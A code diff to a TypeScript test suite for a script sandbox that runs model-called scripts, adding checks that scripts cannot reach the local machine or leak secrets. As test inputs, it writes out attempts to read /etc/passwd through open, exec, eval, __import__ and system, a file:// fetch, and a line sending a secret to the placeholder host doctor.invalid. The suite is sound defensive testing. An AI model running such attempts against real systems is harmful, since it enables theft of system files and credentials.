@@ -1,5 +1,6 @@
 // Scripts of the trial: each is made over the API as the owner would, and run by a model's call through the gate.
 import { randomBytes } from 'node:crypto';
+import { AppError } from '../../core/index.ts';
 import { settingsSchema } from '../../config/schema.ts';
 import type { Bench } from './bench.ts';
 import { judged, notHere, type Check, type CheckGroup, type Finding } from './control.ts';
@@ -62,11 +63,11 @@ const approval: Check = {
 };
 
 const box: Check = {
-  ids: ['S-06'],
+  ids: ['S-06', 'S-48'],
   title: 'what a script reaches',
   run: fenced(async (bench) => {
     const attempts = [
-      ...['open', 'exec', 'eval', '__import__'].map((name) => `${name}("/etc/passwd")`),
+      ...['open', 'exec', 'eval', '__import__', 'system'].map((name) => `${name}("/etc/passwd")`),
       'http.get("http://127.0.0.1/")',
     ];
     const reached: string[] = [];
@@ -76,7 +77,7 @@ const box: Check = {
       if ((await run(bench, name)).done) reached.push(attempt);
     }
     return judged(
-      'Ran scripts that open a file, run code, import and ask this machine without a grant: each ended with an error',
+      'Ran scripts that open a file, run code and commands, import and ask this machine without a grant: each ended with an error',
       reached.map((attempt) => `${attempt} worked`),
     );
   }),
@@ -100,7 +101,7 @@ const secrets: Check = {
 };
 
 const limits: Check = {
-  ids: ['S-27', 'S-28', 'S-31', 'S-49'],
+  ids: ['S-27', 'S-28', 'S-31', 'S-49', 'S-89'],
   title: 'limits of a script',
   run: fenced(async (bench) => {
     await approve(
@@ -116,6 +117,77 @@ const limits: Check = {
       !/"code":"[a-z_]*memory"/.test(memory.text) && `the bomb: ${memory.text}`,
     ]);
   }),
+};
+
+/** Where a script may send what: only attempts that fail before anything is sent, so that nothing leaves the machine. */
+const network: Check = {
+  ids: ['S-47', 'S-51'],
+  title: 'network of a script',
+  run: fenced(async (bench) => {
+    const own = new URL(bench.program.address).host;
+    const secret = '# @secrets: DOCTOR\nk = secrets.get("DOCTOR")\n';
+    const grant = {
+      secrets: { DOCTOR: ['doctor.invalid'] },
+      hosts: [own, 'doctor.invalid'],
+      methods: ['GET'],
+    };
+    const attempts: readonly (readonly [what: string, source: string, code: string])[] = [
+      ['a file was asked for', 'http.get("file:///etc/passwd")\n', 'url_invalid'],
+      ['OpenPact itself was asked', `http.get("http://${own}/health")\n`, 'address_refused'],
+      [
+        'a secret was sent over http',
+        `${secret}http.get("http://doctor.invalid/?k=" + k)\n`,
+        'scheme_refused',
+      ],
+      ['a secret was sent elsewhere', `${secret}http.get("https://${own}/?k=" + k)\n`, 'secret_not_bound'],
+    ];
+    const wrong: string[] = [];
+    for (const [index, [what, source, code]] of attempts.entries()) {
+      const name = `doctor_network_${index}`;
+      const text = source.startsWith('#') ? source : `# @secrets: DOCTOR\n${source}`;
+      await approve(bench, name, text, grant);
+      const ran = await run(bench, name);
+      if (!ran.text.includes(`"code":"${code}"`)) wrong.push(`${what}: ${ran.text}`);
+    }
+    const { results } = await bench.turn([
+      {
+        calls: [
+          { name: 'script_exec', arguments: { code: 'result = [secrets.get("DOCTOR"), "came back"]' } },
+        ],
+      },
+    ]);
+    const inline = JSON.stringify(results[0]?.result ?? null);
+    return judged(
+      'Ran scripts that read a file by http, ask OpenPact itself, and send a secret elsewhere and over http; gave no secret to code without a review',
+      [
+        ...wrong,
+        !inline.includes('[null,"came back"]') && `code that nobody reviewed got an answer: ${inline}`,
+      ],
+    );
+  }),
+};
+
+const rate: Check = {
+  ids: ['S-32'],
+  title: 'rate of requests',
+  async run({ parts, program }) {
+    // It counts before it looks at the address, and this address is refused.
+    const guard = parts.egress({ clock: program.inside.base.clock });
+    const codes: string[] = [];
+    for (let asked = 0; asked < 6; asked += 1) {
+      const request = { script: 'doctor', url: 'http://127.0.0.1/', method: 'GET', headers: [] } as const;
+      await guard.send({ ...request, timeoutMs: 1_000, maxBytes: 1 }).catch((error: unknown) => {
+        codes.push(error instanceof AppError ? error.code : 'fault');
+      });
+    }
+    return judged(
+      'Asked for an address of this machine six times at once, as a script: refused, and the last one as too many',
+      [
+        codes.length < 6 && 'the address was reached',
+        codes.at(-1) !== 'rate_limited' && 'the sixth request in a second was not cut off',
+      ],
+    );
+  },
 };
 
 const quotas: Check = {
@@ -206,5 +278,5 @@ const rotation: Check = {
 
 export const scriptChecks: CheckGroup = {
   name: 'Scripts',
-  checks: [approval, box, secrets, limits, quotas, offSwitch, pinned, rotation],
+  checks: [approval, box, secrets, limits, network, rate, quotas, offSwitch, pinned, rotation],
 };
